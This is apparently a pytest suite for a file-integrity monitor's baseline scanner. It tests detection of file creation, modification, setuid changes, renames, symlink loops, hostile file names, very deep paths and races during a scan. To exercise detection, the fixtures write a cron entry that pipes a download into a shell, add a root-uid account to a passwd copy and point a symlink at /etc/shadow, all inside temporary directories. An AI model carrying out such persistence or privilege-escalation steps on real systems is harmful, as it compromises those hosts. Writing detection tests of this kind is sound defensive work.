"""The baseline scan on real trees: a quiet first scan, then every kind of change; hostile names,
long paths, symlink loops, deep trees, files vanishing or replaced mid-scan, big directories."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from heron.agent.config import FileWatch
from heron.agent.fim import scan as scan_mod
from heron.agent.fim.baseline import BaselineStore
from heron.agent.fim.hashing import IoBudget
from heron.agent.fim.policy import Policy, Rule
from heron.agent.fim.scan import ScanProgress, scan
from heron.schema.events import FileChange, from_json, to_json


def policy(*watches: FileWatch) -> Policy:
    return Policy(Rule.from_watch(w) for w in watches)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    t = tmp_path / "tree"
    (t / "etc" / "cron.d").mkdir(parents=True)
    (t / "etc" / "passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    (t / "etc" / "cron.d" / "job").write_text("* * * * * root true\n")
    (t / "bin").mkdir()
    (t / "bin" / "tool").write_bytes(b"\x7fELF" + b"x" * 5000)
    (t / "bin" / "tool").chmod(0o755)
    return t


@pytest.fixture
def store(tmp_path: Path) -> Iterator[BaselineStore]:
    s = BaselineStore.open(str(tmp_path / "state"))
    yield s
    s.close()


def run(p: Policy, s: BaselineStore, **kw: object) -> tuple[list[FileChange], ScanProgress]:
    last: list[ScanProgress] = []
    events = list(scan(p, s, progress=lambda pr: last.append(pr), **kw))  # type: ignore[arg-type]
    assert last and last[-1].elapsed_s >= 0
    return events, last[-1]


def by_path(events: list[FileChange]) -> dict[str, FileChange]:
    out = {e.path: e for e in events}
    assert len(out) == len(events), [e.path for e in events]
    return out


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def test_first_scan_is_quiet_then_changes_are_reported(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    events, prog = run(p, store)
    assert events == []
    assert prog.done and prog.baseline_files == 7 and prog.files_seen == 7  # the root, 3 directories, 3 files
    assert prog.files_hashed == 3 and prog.errors == 0
    assert run(p, store)[0] == []  # nothing changed: nothing reported, nothing hashed
    assert run(p, store)[1].files_hashed == 0

    t = tree
    (t / "etc" / "cron.d" / "evil").write_text("* * * * * root curl x|sh\n")  # create
    (t / "etc" / "passwd").write_text("root:x:0:0::/root:/bin/sh\nbad:x:0:0::/:/bin/sh\n")  # modify
    (t / "bin" / "tool").chmod(0o4755)  # attrib (setuid)
    (t / "etc" / "cron.d" / "job").unlink()  # delete
    (t / "bin" / "sub").mkdir()  # create (directory)
    events, prog = run(p, store)
    got = by_path(events)
    base = str(t)
    assert set(got) == {f"{base}/etc/cron.d/evil", f"{base}/etc/passwd", f"{base}/bin/tool",
                        f"{base}/etc/cron.d/job", f"{base}/bin/sub"}
    ev = got[f"{base}/etc/cron.d/evil"]
    assert (ev.action, ev.sha256, ev.source, ev.attribution, ev.process, ev.rule) == (
        "create", sha(t / "etc/cron.d/evil"), "file.scan", "unknown", None, "t")
    assert ev.new is not None and ev.old is None and ev.actions == ["create"]
    ev = got[f"{base}/etc/passwd"]
    assert ev.action == "modify" and ev.sha256 == sha(t / "etc/passwd")
    assert ev.old is not None and ev.new is not None and ev.new.size > ev.old.size
    ev = got[f"{base}/bin/tool"]
    assert ev.action == "attrib" and ev.old is not None and ev.new is not None
    assert stat.S_IMODE(ev.new.mode) == 0o4755 and stat.S_IMODE(ev.old.mode) == 0o755
    ev = got[f"{base}/etc/cron.d/job"]
    assert ev.action == "delete" and ev.old is not None and ev.new is None
    assert got[f"{base}/bin/sub"].is_dir and got[f"{base}/bin/sub"].action == "create"
    assert prog.changes == 5 and prog.by_action == {"create": 2, "modify": 1, "attrib": 1, "delete": 1}
    assert all(from_json(to_json(e)) == e for e in events)  # valid schema records
    assert run(p, store)[0] == []  # the baseline took the changes in


def test_stealthy_changes(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    f = tree / "bin" / "tool"
    st = f.stat()
    data = bytearray(f.read_bytes())
    data[100] ^= 0xFF
    f.write_bytes(bytes(data))  # same size ...
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))  # ... and the old mtime: only ctime and content tell
    (tree / "etc" / "passwd").touch()  # mtime only, same content: attrib, not modify
    os.link(tree / "etc" / "passwd", tree / "passwd-copy")  # a hard link: nlink moves
    got = by_path(run(p, store)[0])
    assert got[str(f)].action == "modify" and got[str(f)].sha256 == sha(f)
    assert got[str(tree / "etc/passwd")].action == "attrib"
    assert got[str(tree / "passwd-copy")].action == "create"


def test_unhashed_rule_uses_metadata(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t", hash=False))
    prog = run(p, store)[1]
    assert prog.files_hashed == 0
    (tree / "etc" / "passwd").write_text("changed\n")
    (tree / "bin" / "tool").touch()
    got = by_path(run(p, store)[0])
    assert got[str(tree / "etc/passwd")].action == "modify" and got[str(tree / "etc/passwd")].sha256 is None
    assert got[str(tree / "bin/tool")].action == "modify"  # without a hash, a new mtime is all we know


def test_too_large_is_tracked_by_metadata(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t", hash_max_bytes=1000))
    run(p, store)
    with open(tree / "bin" / "tool", "ab") as fh:
        fh.write(b"more")
    ev = by_path(run(p, store)[0])[str(tree / "bin/tool")]
    assert ev.action == "modify" and ev.sha256 is None and ev.hash_skipped == "too_large"


def test_renames_are_paired(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    os.rename(tree / "bin" / "tool", tree / "bin" / ".hidden-tool")
    os.rename(tree / "etc" / "cron.d", tree / "etc" / "cron.weekly")
    events, _ = run(p, store)
    got = by_path(events)
    assert set(got) == {str(tree / "bin/.hidden-tool"), str(tree / "etc/cron.weekly")}  # children folded in
    ev = got[str(tree / "bin/.hidden-tool")]
    assert ev.action == "rename" and ev.old_path == str(tree / "bin/tool") and ev.sha256 == sha(
        tree / "bin/.hidden-tool")
    ev = got[str(tree / "etc/cron.weekly")]
    assert ev.action == "rename" and ev.is_dir and ev.old_path == str(tree / "etc/cron.d")
    assert list(store.paths_under(os.fsencode(tree / "etc/cron.weekly"))) == [
        os.fsencode(tree / "etc/cron.weekly"), os.fsencode(tree / "etc/cron.weekly/job")]
    # A delete and a create that merely reuse an inode number are not a rename.
    (tree / "etc" / "passwd").unlink()
    (tree / "etc" / "other").write_text("different content\n")
    assert sorted(e.action for e in run(p, store)[0]) == ["create", "delete"]


def test_symlinks_recorded_not_followed(tree: Path, store: BaselineStore) -> None:
    (tree / "loop").symlink_to(".")
    (tree / "up").symlink_to("../..")
    (tree / "bin" / "self").symlink_to(tree / "bin")
    (tree / "etc" / "ptr").symlink_to("passwd")
    p = policy(FileWatch(path=str(tree), name="t"))
    prog = run(p, store)[1]
    assert prog.files_seen == 11 and prog.errors == 0
    e = store.entry(os.fsencode(tree / "loop"))
    assert e is not None and stat.S_ISLNK(e.meta.mode) and e.sha256 is None
    (tree / "etc" / "ptr").unlink()
    (tree / "etc" / "ptr").symlink_to("/etc/shadow")  # retargeted
    ev = by_path(run(p, store)[0])[str(tree / "etc/ptr")]
    assert ev.action == "modify" and ev.new is not None and stat.S_ISLNK(ev.new.mode)


def test_directory_swapped_for_a_link_to_a_lookalike(tree: Path, tmp_path: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    os.rename(tree / "etc" / "cron.d", tmp_path / "elsewhere")  # job is still reachable through the link
    (tree / "etc" / "cron.d").symlink_to(tmp_path / "elsewhere")
    got = by_path(run(p, store)[0])
    assert got[str(tree / "etc/cron.d")].action == "modify"
    assert got[str(tree / "etc/cron.d/job")].action == "delete"


def test_symlinked_root_is_recorded_as_a_link(tree: Path, tmp_path: Path, store: BaselineStore) -> None:
    link = tmp_path / "bin-link"
    link.symlink_to(tree / "bin")
    p = policy(FileWatch(path=str(link), name="l"))
    _, prog = run(p, store)
    assert prog.files_seen == 1
    assert [os.fsdecode(x) for x in store.paths_under(os.fsencode(link))] == [str(link)]


def test_hostile_names(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    d = os.fsencode(tree / "etc")
    names = [b"new\nline", b"\xff\xfe-not-utf8", b"-rf", b" space ", b"\x1b[31mred", b"back\\x41"]
    for n in names:
        with open(d + b"/" + n, "wb") as fh:
            fh.write(n)
    got = by_path(run(p, store)[0])
    assert len(got) == len(names)
    nl = got[f"{tree}/etc/new\nline"]
    assert nl.action == "create" and not nl.path_escaped
    bad = got[f"{tree}/etc/\\xff\\xfe-not-utf8"]
    assert bad.path_escaped and bad.sha256 == hashlib.sha256(b"\xff\xfe-not-utf8").hexdigest()
    assert not got[f"{tree}/etc/back\\x41"].path_escaped
    os.unlink(d + b"/\xff\xfe-not-utf8")
    (ev,) = run(p, store)[0]
    assert ev.action == "delete" and ev.path_escaped


def make_deep(base: Path, levels: int, name: bytes) -> list[bytes]:
    """A chain of directories; at each level a file named 'z' sorts after the next directory, so
    the walk needs each level's fd again on the way back up."""
    made: list[bytes] = []
    fd = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
    path = os.fsencode(base)
    try:
        for _ in range(levels):
            os.mkdir(name, dir_fd=fd)
            nfd = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            wfd = os.open(b"z", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            os.write(wfd, path[-40:])
            os.close(wfd)
            made.append(path + b"/z")
            os.close(fd)
            fd = nfd
            path += b"/" + name
    finally:
        os.close(fd)
    return made


def rm_deep(base: Path) -> None:
    # rmtree copes with paths beyond PATH_MAX (it works through directory fds).
    shutil.rmtree(base)


def test_paths_beyond_path_max(tmp_path: Path, store: BaselineStore) -> None:
    base = tmp_path / "long"
    base.mkdir()
    files = make_deep(base, 24, b"d" * 250)
    try:
        assert len(files[-1]) > 4096 * 1.4
        p = policy(FileWatch(path=str(base), name="long"))
        _, prog = run(p, store)
        assert prog.errors == 0 and prog.baseline_files == 1 + 2 * 24
        assert store.get(files[-1]) is not None
        # Change the deepest file through fds, as no path reaches it.
        fd = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
        for _ in range(23):
            nfd = os.open(b"d" * 250, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        wfd = os.open(b"z", os.O_WRONLY | os.O_APPEND, dir_fd=fd)
        os.write(wfd, b"appended")
        os.close(wfd)
        os.close(fd)
        (ev,) = run(p, store)[0]
        assert ev.action == "modify" and ev.path == os.fsdecode(files[-1]) and ev.sha256 is not None
    finally:
        rm_deep(base)


def test_deeper_than_the_fd_limit(tmp_path: Path, store: BaselineStore, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scan_mod, "FD_LIMIT", 8)
    base = tmp_path / "deep"
    base.mkdir()
    files = make_deep(base, 40, b"d")
    p = policy(FileWatch(path=str(base), name="deep"))
    fds_before = len(os.listdir("/proc/self/fd"))
    _, prog = run(p, store)
    assert prog.errors == 0 and prog.baseline_files == 1 + 2 * 40
    assert len(os.listdir("/proc/self/fd")) == fds_before  # every directory fd closed
    for i in (3, 20, 39):
        with open(files[i], "ab") as fh:
            fh.write(b"!")
    got = run(p, store)[0]
    assert sorted(e.path for e in got) == sorted(os.fsdecode(files[i]) for i in (3, 20, 39))


def test_directory_moved_while_walked(tmp_path: Path, store: BaselineStore, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scan_mod, "FD_LIMIT", 2)  # ancestors' fds are closed: the walk must find its way back
    base = tmp_path / "deep"
    base.mkdir()
    files = make_deep(base, 6, b"d")
    walked = base / "d" / "d" / "d" / "d"
    trigger = os.fsencode(walked / "z")

    class Moving(Policy):
        def match(self, path: bytes, action: str | None = None) -> Rule | None:
            if path == trigger and walked.exists():
                os.rename(walked, base / "moved")  # ".." from it now leads to base, not to its old parent
            return super().match(path, action)

    p = policy(FileWatch(path=str(base), name="deep"))
    _, prog = run(Moving(p.rules), store)
    assert prog.errors == 0
    assert store.get(files[3]) is not None  # deep/d/d/d/z: visited after returning from the moved directory
    assert store.get(files[0]) is not None
    (ev,) = run(p, store)[0]
    assert (ev.action, ev.path, ev.old_path) == ("rename", str(base / "moved"), str(walked))


def test_file_vanishing_mid_scan(tree: Path, store: BaselineStore) -> None:
    victim = os.fsencode(tree / "etc" / "passwd")

    class Deleting(Policy):
        def match(self, path: bytes, action: str | None = None) -> Rule | None:
            if path == victim and os.path.lexists(path):
                os.unlink(path)  # between the directory listing and the stat
            return super().match(path, action)

    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    events, prog = run(Deleting(p.rules), store)
    assert [(e.action, e.path) for e in events] == [("delete", os.fsdecode(victim))]
    assert prog.errors == 0


def test_file_replaced_while_hashed(tree: Path, store: BaselineStore) -> None:
    big = tree / "bin" / "big"
    big.write_bytes(b"a" * (3 << 20))
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    replacement = tree / "replacement"
    big.write_bytes(b"b" * (3 << 20))  # a change the next scan must hash...
    replacement.write_bytes(b"c" * (2 << 20))

    class Swap(IoBudget):
        def __init__(self) -> None:
            super().__init__(10_000, 100)
            self.done = False

        def spend(self, nbytes: int) -> None:
            if nbytes and not self.done:  # ... and while it does, the file is replaced
                self.done = True
                os.rename(replacement, big)

    got = by_path(run(p, store, budget=Swap())[0])
    ev = got[str(big)]
    assert ev.action == "modify" and ev.sha256 == sha(big) and ev.new is not None
    assert ev.new.inode == big.stat().st_ino and ev.new.size == 2 << 20
    assert run(p, store)[0] == []  # the stored state is the file that is there


def test_rules_actions_filter_reports_not_the_baseline(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree / "etc"), name="deletes-only", actions=["delete"]))
    run(p, store)
    (tree / "etc" / "passwd").write_text("x\n")
    (tree / "etc" / "new").write_text("x\n")
    assert run(p, store)[0] == []
    (tree / "etc" / "new").unlink()
    assert [(e.action, e.rule) for e in run(p, store)[0]] == [("delete", "deletes-only")]
    assert store.get(os.fsencode(tree / "etc" / "passwd")) is not None


def test_new_root_is_quiet_old_roots_report(tree: Path, store: BaselineStore) -> None:
    p1 = policy(FileWatch(path=str(tree / "etc"), name="etc"))
    run(p1, store)
    (tree / "etc" / "added").write_text("x\n")
    p2 = policy(FileWatch(path=str(tree / "etc"), name="etc"), FileWatch(path=str(tree / "bin"), name="bin"))
    events, prog = run(p2, store)
    assert [e.path for e in events] == [str(tree / "etc/added")]
    assert prog.baseline_files == 2  # bin and bin/tool, quietly
    # Emptying a baselined root does not make its next scan quiet.
    (tree / "bin" / "tool").unlink()
    run(p2, store)
    (tree / "bin" / "dropped").write_text("x\n")
    assert [e.action for e in run(p2, store)[0]] == ["create"]
    # A watch removed from the policy: its entries dropped silently.
    (tree / "etc" / "noise.swp").write_text("x\n")
    p3 = policy(FileWatch(path=str(tree / "etc"), name="etc", exclude=["*.swp", "/*/added"]),
                FileWatch(path=str(tree / "bin"), name="bin"))
    assert run(p3, store)[0] == []
    assert store.get(os.fsencode(tree / "etc" / "added")) is None


def test_stop_reports_no_false_deletes(tmp_path: Path, store: BaselineStore) -> None:
    d = tmp_path / "many"
    d.mkdir()
    for i in range(1500):
        (d / f"f{i:05}").write_bytes(b"x")
    p = policy(FileWatch(path=str(d), name="many"))
    run(p, store)
    stop = threading.Event()
    seen = [0]

    class Stopping(Policy):
        def match(self, path: bytes, action: str | None = None) -> Rule | None:
            seen[0] += 1
            if seen[0] == 300:
                stop.set()
            return super().match(path, action)

    events, prog = run(Stopping(p.rules), store, stop=stop)
    assert events == [] and not prog.done and prog.files_seen < 1500
    assert store.count() == 1501


def test_errors_counted_not_fatal(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"), FileWatch(path=str(tree / "missing"), name="m"))
    _, prog = run(p, store)
    assert prog.errors == 0  # a missing root is not an error
    fifo = tree / "etc" / "fifo"
    os.mkfifo(fifo)
    events, prog = run(p, store)
    assert [e.action for e in events] == ["create"] and events[0].sha256 is None
    assert prog.errors == 0 and prog.hash_skipped == {}  # a FIFO is not hashed, not an error


@pytest.mark.privileged
def test_mount_points_and_bind_loops(tree: Path, store: BaselineStore) -> None:
    mnt = tree / "mnt"
    mnt.mkdir()
    loop = tree / "etc" / "loop"
    loop.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "heron-test", str(mnt)], check=True)
    try:
        (mnt / "inside").write_text("other fs\n")
        subprocess.run(["mount", "--bind", str(tree), str(loop)], check=True)
        try:
            p = policy(FileWatch(path=str(tree), name="t"))
            _, prog = run(p, store)
            paths = {os.fsdecode(x) for x in store.paths_under(os.fsencode(tree))}
            assert str(mnt) in paths and str(mnt / "inside") not in paths  # -xdev
            assert str(loop / "etc") not in paths  # the loop back to an ancestor is not entered
            assert prog.errors == 1 and "loop" in prog.error_samples[0]
            # A tmpfs mounted on the root itself is scanned: roots may be mount points.
            q = policy(FileWatch(path=str(mnt), name="m"))
            run(q, store)
            assert store.get(os.fsencode(mnt / "inside")) is not None
        finally:
            subprocess.run(["umount", str(loop)], check=True)
    finally:
        subprocess.run(["umount", str(mnt)], check=True)


@pytest.fixture
def fast_dir(tmp_path: Path) -> Iterator[Path]:
    """A directory on a private tmpfs when root (creating 100,000 files on this VM's disk takes
    5-15 s; scanning them does not depend on the file system), else under tmp_path."""
    d = tmp_path / "big"
    d.mkdir()
    mounted = os.geteuid() == 0 and subprocess.run(["mount", "-t", "tmpfs", "heron-test", str(d)]).returncode == 0
    try:
        yield d
    finally:
        if mounted:
            subprocess.run(["umount", str(d)], check=True)


@pytest.mark.slow
def test_hundred_thousand_files(fast_dir: Path, store: BaselineStore) -> None:
    d = fast_dir
    dfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for i in range(100_000):
            os.close(os.open(b"f%06d" % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd))
    finally:
        os.close(dfd)
    p = policy(FileWatch(path=str(d), name="big"))
    t0 = time.monotonic()
    events, prog = run(p, store)
    cold = time.monotonic() - t0
    assert events == [] and prog.baseline_files == 100_001 and prog.files_hashed == 100_000
    (d / "f050000").write_bytes(b"changed")
    (d / "f099999").unlink()
    t0 = time.monotonic()
    events, prog = run(p, store)
    warm = time.monotonic() - t0
    assert sorted((e.action, e.path) for e in events) == [("delete", str(d / "f099999")),
                                                         ("modify", str(d / "f050000"))]
    assert prog.files_hashed == 1
    print(f"100,000 files: cold {cold:.1f} s, warm {warm:.1f} s")
    assert cold < 60 and warm < 20


def test_changes_not_yet_reported_survive_an_interrupted_scan(tree: Path, store: BaselineStore) -> None:
    p = policy(FileWatch(path=str(tree), name="t"))
    run(p, store)
    for n in ("new1", "new2", "new3"):
        (tree / n).write_text(n)
    (tree / "etc" / "passwd").unlink()
    gen = scan(p, store)
    first = next(gen)
    gen.close()  # the consumer died (Ctrl-C, an exception) after the first report
    store.flush()
    again = {(e.action, e.path) for e in run(p, store)[0]}
    expected = {("create", str(tree / n)) for n in ("new1", "new2", "new3")} | {("delete", str(tree / "etc/passwd"))}
    assert (first.action, first.path) in expected
    # What was not reported is reported now; the one handed over when the consumer died may come again.
    assert expected - {(first.action, first.path)} <= again <= expected
